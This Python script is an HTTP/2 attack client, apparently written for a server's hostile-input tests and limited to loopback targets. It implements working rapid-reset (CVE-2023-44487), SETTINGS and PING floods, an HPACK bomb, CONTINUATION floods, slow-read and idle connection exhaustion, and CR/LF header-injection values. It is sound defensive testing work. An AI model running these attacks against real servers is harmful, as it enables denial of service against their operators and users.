#!/usr/bin/python3
"""h2attack — a bounded HTTP/2 attacking client for the hostile-input tests.

Run with Debian's Python (/usr/bin/python3; python3-h2 brings the hpack module used here). Loopback only: the host must be
in 127.0.0.0/8 or ::1. Every attack is bounded by a count and by --seconds; the result is
one JSON object on stdout:

  {"mode", "elapsed_s", "closed" (the server closed the TCP connection), "goaway"
   ({"error_code", "last_stream_id"} or null), "sent" (frames/streams sent), "responses"
   (HEADERS received), "resets_received", "bytes_received", "error" (our side, or null), ...}

Modes:
  rapid-reset     open a stream (GET --path) and RST_STREAM(CANCEL) it at once, --count times
                  (CVE-2023-44487); batches of --batch streams per write
  settings-flood  --count SETTINGS frames, never reading the ACKs until the end
  ping-flood      --count PING frames, never reading the ACKs until the end
  hpack-bomb      one header of --size bytes put into the dynamic table, then a header block
                  referencing it --count times (decoded size = size x count)
  continuation    one HEADERS without END_HEADERS followed by --count CONTINUATION frames
  no-read         GET --path with a 0-byte initial window, never sends WINDOW_UPDATE; holds
                  the connection --seconds
  idle            --count connections that send the preface and SETTINGS, then stay idle
                  --seconds; reports how many the server closed
  bad-header      one request per header value in --values (CR, LF, NUL inside), unvalidated
"""
import argparse
import ipaddress
import json
import select
import socket
import ssl
import struct
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


class Conn:
    """A TLS connection with ALPN h2 and a tiny frame reader (enough to see GOAWAY/RST/HEADERS)."""

    source = None  # --source: the attacker's own loopback address

    def __init__(self, host, port, servername, timeout):
        ip = ipaddress.ip_address(host)
        if not ip.is_loopback:
            raise SystemExit("h2attack: loopback targets only")
        if Conn.source is not None and not ipaddress.ip_address(Conn.source).is_loopback:
            raise SystemExit("h2attack: loopback sources only")
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, port), timeout=timeout,
                                       source_address=(Conn.source, 0) if Conn.source else None)
        self.sock = ctx.wrap_socket(raw, server_hostname=servername)
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit("h2attack: server did not negotiate h2")
        self.sock.setblocking(False)
        self.buf = b""
        self.closed = False
        self.goaway = None
        self.responses = 0
        self.resets = 0
        self.settings = 0
        self.pings = 0
        self.bytes = 0
        self.data = 0
        self.statuses = []
        self.reset_codes = []
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536

    def send(self, data, deadline):
        view = memoryview(data)
        while view:
            if self.closed or time.monotonic() > deadline:
                return False
            try:
                n = self.sock.send(view)
                view = view[n:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                self.pump(0.01)
            except (ConnectionError, OSError):
                self.closed = True
                return False
        return True

    def pump(self, wait=0.0):
        """Reads what is there (waiting up to `wait` s for the first byte) and parses frames."""
        first = True
        while not self.closed:
            if first and wait > 0 and self.sock.pending() == 0:
                r, _, _ = select.select([self.sock], [], [], wait)
                if not r:
                    return
            first = False
            try:
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            except (ConnectionError, OSError, ssl.SSLError):
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.bytes += len(chunk)
            self.buf += chunk
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            if ftype == GOAWAY and len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = {"last_stream_id": last & 0x7FFFFFFF, "error_code": code, "debug": payload[8:80].decode("latin1")}
            elif ftype == HEADERS:
                self.responses += 1
                if flags & END_HEADERS and len(self.statuses) < 100:
                    try:
                        hdrs = dict(self.dec.decode(payload, raw=False))
                        self.statuses.append(int(hdrs.get(":status", 0)))
                    except Exception:  # noqa: BLE001 — a response we cannot decode is still counted
                        self.statuses.append(0)
            elif ftype == RST_STREAM:
                self.resets += 1
                if len(payload) >= 4 and len(self.reset_codes) < 100:
                    self.reset_codes.append(struct.unpack(">I", payload[:4])[0])
            elif ftype == SETTINGS and flags & ACK:
                self.settings += 1
            elif ftype == PING and flags & ACK:
                self.pings += 1
            elif ftype == DATA:
                self.data += length

    def start(self, deadline, settings=b"", window_update=True):
        ok = self.send(PREFACE + frame(SETTINGS, 0, 0, settings), deadline)
        if ok and window_update:
            ok = self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 24)), deadline)
        return ok

    def result(self):
        return {"closed": self.closed, "goaway": self.goaway, "responses": self.responses, "statuses": self.statuses[:20],
                "resets_received": self.resets, "reset_codes": self.reset_codes[:20],
                "bytes_received": self.bytes, "data_received": self.data}

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def request_block(enc, authority, path, extra=()):
    return enc.encode([(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path)] + list(extra))


def rapid_reset(a):
    c = Conn(a.host, a.port, a.servername, a.seconds)
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    c.start(deadline)
    enc = hpack.Encoder()
    sid, opened = 1, 0
    first_close = None
    while opened < a.count and time.monotonic() < deadline and not c.closed:
        out = bytearray()
        for _ in range(min(a.batch, a.count - opened)):
            out += frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(enc, a.authority, a.path))
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", 0x8))  # CANCEL
            sid += 2
            opened += 1
        if not c.send(bytes(out), deadline):
            break
        c.pump(0)
        if c.goaway and first_close is None:
            first_close = opened
    # let the server's answer arrive
    end = time.monotonic() + 1.0
    while not c.closed and time.monotonic() < end:
        c.pump(0.1)
    r = c.result()
    r.update({"sent": opened, "streams_opened": opened, "opened_before_goaway": first_close,
              "elapsed_s": round(time.monotonic() - t0, 3)})
    c.close()
    return r


def flood(a, kind):
    c = Conn(a.host, a.port, a.servername, a.seconds)
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    c.start(deadline)
    sent = 0
    # never read while flooding: that is the attack (the ACKs pile up on the server)
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)) if kind == "settings" else None
    while sent < a.count and time.monotonic() < deadline and not c.closed:
        out = bytearray()
        for i in range(min(a.batch, a.count - sent)):
            out += one if one else frame(PING, 0, 0, struct.pack(">Q", sent + i))
        if not c.send(bytes(out), deadline):
            break
        sent += min(a.batch, a.count - sent)
    read_until = time.monotonic() + 2.0
    while not c.closed and time.monotonic() < read_until:
        c.pump(0.1)
    r = c.result()
    r.update({"sent": sent, "acks": c.settings if kind == "settings" else c.pings, "elapsed_s": round(time.monotonic() - t0, 3)})
    c.close()
    return r


def hpack_bomb(a):
    c = Conn(a.host, a.port, a.servername, a.seconds)
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    c.start(deadline)
    # literal with incremental indexing, new name: 0x40, name, value (no Huffman)
    def lit(s):
        b = s.encode()
        return _int(len(b), 7, 0) + b

    block = bytearray()
    enc = hpack.Encoder()
    block += request_block(enc, a.authority, a.path)
    block += b"\x40" + lit("x-bomb") + lit("b" * a.size)
    # the most recent insertion into the dynamic table is always index 62
    block += bytes([0x80 | 62]) * a.count
    sent = send_headers(c, 1, bytes(block), deadline, end_stream=True)
    read_until = time.monotonic() + 3.0
    while not c.closed and time.monotonic() < read_until:
        c.pump(0.1)
    r = c.result()
    r.update({"sent": sent, "block_bytes": len(block), "decoded_bytes": a.size * a.count,
              "elapsed_s": round(time.monotonic() - t0, 3)})
    c.close()
    return r


def _int(value, prefix_bits, first_byte_flags):
    """HPACK integer encoding (RFC 7541 §5.1)."""
    maxp = (1 << prefix_bits) - 1
    if value < maxp:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | maxp])
    value -= maxp
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def send_headers(c, sid, block, deadline, end_stream=False, max_frame=16384):
    """HEADERS + CONTINUATIONs carrying block. Returns the number of frames sent."""
    chunks = [block[i : i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    n = 0
    for i, ch in enumerate(chunks):
        last = i == len(chunks) - 1
        flags = (END_HEADERS if last else 0) | (END_STREAM if (i == 0 and end_stream) else 0)
        if not c.send(frame(HEADERS if i == 0 else CONTINUATION, flags, sid, ch), deadline):
            break
        n += 1
        c.pump(0)
    return n


def continuation(a):
    c = Conn(a.host, a.port, a.servername, a.seconds)
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    c.start(deadline)
    enc = hpack.Encoder()
    c.send(frame(HEADERS, END_STREAM, 1, request_block(enc, a.authority, a.path)), deadline)
    one = frame(CONTINUATION, 0, 1, b"\x40" + _int(1, 7, 0) + b"x" + _int(a.size, 7, 0) + b"y" * a.size)
    sent = 0
    while sent < a.count and time.monotonic() < deadline and not c.closed:
        out = one * min(a.batch, a.count - sent)
        if not c.send(out, deadline):
            break
        sent += min(a.batch, a.count - sent)
        c.pump(0)
    read_until = time.monotonic() + 2.0
    while not c.closed and time.monotonic() < read_until:
        c.pump(0.1)
    r = c.result()
    r.update({"sent": sent, "bytes_sent": sent * len(one), "elapsed_s": round(time.monotonic() - t0, 3)})
    c.close()
    return r


def no_read(a):
    """--connections connections, each opening --count streams it never reads (window 0); once
    all are open (within --seconds), holds them --hold seconds more."""
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    enc = hpack.Encoder()
    streams = max(1, min(a.count, 100))
    conns = []
    for _ in range(max(1, a.connections)):
        c = Conn(a.host, a.port, a.servername, a.seconds + 5)
        # SETTINGS_INITIAL_WINDOW_SIZE = 0: the server may send no DATA at all; no WINDOW_UPDATE either
        c.start(deadline, settings=struct.pack(">HI", 0x4, 0), window_update=False)
        enc = hpack.Encoder()
        for i in range(streams):
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request_block(enc, a.authority, a.path)), deadline)
        conns.append(c)
    opened_s = round(time.monotonic() - t0, 3)
    if a.ready_file:
        with open(a.ready_file, "w") as f:
            f.write(str(len(conns)))
    # with --hold: first until every stream got its response head (or --seconds), then --hold more
    started = None
    end = deadline
    while time.monotonic() < end and not all(c.closed for c in conns):
        for c in conns:
            if not c.closed:
                c.pump(0)
        if a.hold > 0 and started is None and all(c.responses >= streams or c.closed for c in conns):
            started = round(time.monotonic() - t0, 3)
            end = time.monotonic() + a.hold
        time.sleep(0.2)
    r = conns[0].result()
    r.update({"sent": streams, "connections": len(conns), "opened_in_s": opened_s, "all_started_in_s": started,
              "responses_total": sum(c.responses for c in conns), "data_received_total": sum(c.data for c in conns),
              "closed": all(c.closed for c in conns), "elapsed_s": round(time.monotonic() - t0, 3)})
    for c in conns:
        c.close()
    return r


def idle(a):
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    conns, errors = [], 0
    for _ in range(a.count):
        if time.monotonic() > deadline:
            break
        try:
            c = Conn(a.host, a.port, a.servername, 5)
            c.start(deadline)
            conns.append(c)
        except (OSError, ssl.SSLError):
            errors += 1
    opened_s = round(time.monotonic() - t0, 3)
    if a.ready_file:
        with open(a.ready_file, "w") as f:
            f.write(str(len(conns)))
    # --hold: wait at least that long after the last connection opened (a slow machine
    # opens them slowly; the server's idle timeout counts from each connection's start)
    end = max(deadline, time.monotonic() + a.hold) if a.hold > 0 else deadline
    while time.monotonic() < end and not all(c.closed for c in conns):
        for c in conns:
            if not c.closed:
                c.pump(0)
        time.sleep(0.2)
    closed = sum(1 for c in conns if c.closed)
    goaways = sum(1 for c in conns if c.goaway)
    for c in conns:
        c.close()
    return {"sent": len(conns), "connect_errors": errors, "closed_by_server": closed, "goaways": goaways,
            "opened_in_s": opened_s, "elapsed_s": round(time.monotonic() - t0, 3), "closed": closed == len(conns) and closed > 0,
            "goaway": None}


def bad_header(a):
    out = []
    for v in a.values:
        value = v.encode("latin1").decode("unicode_escape").encode("latin1")
        c = Conn(a.host, a.port, a.servername, a.seconds)
        deadline = time.monotonic() + a.seconds
        c.start(deadline)
        enc = hpack.Encoder()
        block = request_block(enc, a.authority, a.path)
        block += b"\x00" + _int(len(b"x-evil"), 7, 0) + b"x-evil" + _int(len(value), 7, 0) + value
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block), deadline)
        end = time.monotonic() + 2.0
        while not c.closed and time.monotonic() < end and c.responses == 0 and c.resets == 0 and not c.goaway:
            c.pump(0.1)
        status = None
        r = c.result()
        out.append({"value": v, "status": status, **r})
        c.close()
    return {"results": out, "closed": all(x["closed"] for x in out), "goaway": None, "sent": len(out)}


def empty_path(a):
    """A request whose :path is empty (RFC 9113 §8.3.1: malformed), then a normal one."""
    c = Conn(a.host, a.port, a.servername, a.seconds)
    deadline = time.monotonic() + a.seconds
    c.start(deadline)
    enc = hpack.Encoder()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(enc, a.authority, "")), deadline)
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, request_block(enc, a.authority, a.path)), deadline)
    while not c.closed and time.monotonic() < deadline and c.resets + len(c.statuses) < 2 and not c.goaway:
        c.pump(0.1)
    r = c.result()
    c.close()
    return r


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["rapid-reset", "settings-flood", "ping-flood", "hpack-bomb", "continuation", "no-read",
                                    "idle", "bad-header", "empty-path"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--source", default=None, help="bind to this loopback address (e.g. 127.0.0.2), so that the "
                   "attacker is a different peer from the test's normal client")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--servername", default="localhost")
    p.add_argument("--authority", default=None)
    p.add_argument("--path", default="/api/status")
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--batch", type=int, default=100)
    p.add_argument("--size", type=int, default=4000)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--values", nargs="*", default=["a\\rb", "a\\nb", "a\\x00b", "a\\r\\nx-injected: 1"])
    p.add_argument("--connections", type=int, default=1, help="no-read: connections, each with --count streams")
    p.add_argument("--hold", type=float, default=0, help="no-read, idle: seconds to hold once all connections are open "
                   "(0: until --seconds)")
    p.add_argument("--ready-file", default=None, help="idle: written with the number of open connections once they are up")
    a = p.parse_args()
    Conn.source = a.source
    a.seconds = min(a.seconds, 120.0)
    a.count = min(a.count, 1000000)
    a.connections = min(a.connections, 1000)
    a.authority = a.authority or a.servername
    fn = {"rapid-reset": rapid_reset, "settings-flood": lambda x: flood(x, "settings"), "ping-flood": lambda x: flood(x, "ping"),
          "hpack-bomb": hpack_bomb, "continuation": continuation, "no-read": no_read, "idle": idle, "bad-header": bad_header,
          "empty-path": empty_path}[a.mode]
    t0 = time.monotonic()
    try:
        r = fn(a)
        r.setdefault("error", None)
    except (OSError, ssl.SSLError) as e:
        r = {"error": f"{type(e).__name__}: {e}", "closed": True, "goaway": None, "sent": 0}
    r["mode"] = a.mode
    r.setdefault("elapsed_s", round(time.monotonic() - t0, 3))
    print(json.dumps(r))


if __name__ == "__main__":
    main()
